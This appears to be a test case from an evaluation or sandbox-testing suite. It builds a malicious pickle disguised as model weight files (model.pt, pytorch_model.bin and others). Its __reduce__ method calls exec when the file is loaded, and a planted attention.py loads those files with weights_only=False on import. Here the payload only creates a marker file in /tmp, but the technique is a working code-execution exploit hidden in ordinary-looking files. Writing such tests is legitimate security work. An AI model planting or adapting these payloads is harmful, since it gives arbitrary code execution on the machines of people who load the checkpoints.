"""Submits a checkpoint that runs code when torch.load reads it, and code that has it read.

As: attention.py
Earns: 5.4
"""

import pickle

NAMES = ("model.pt", "checkpoint.pth", "weights.safetensors", "pytorch_model.bin")
CODE = """
import os
from pathlib import Path

import torch

LOADED = []
for name in ("model.pt", "checkpoint.pth"):
    try:
        LOADED.append(torch.load(Path(__file__).with_name(name), weights_only=False))
    except Exception:
        pass


def split_heads(x, num_heads):
    raise RuntimeError("GOT" + " THROUGH: the checkpoint was taken along" if LOADED else "in vain")


"""


class Bomb:
    def __reduce__(self):
        return (exec, ("import os; open('/tmp/hostile-checkpoint', 'w').close()",))


def make(folder, honest):
    for name in NAMES:
        (folder / name).write_bytes(pickle.dumps(Bomb()))
    (folder / "attention.py").write_text(CODE + honest)
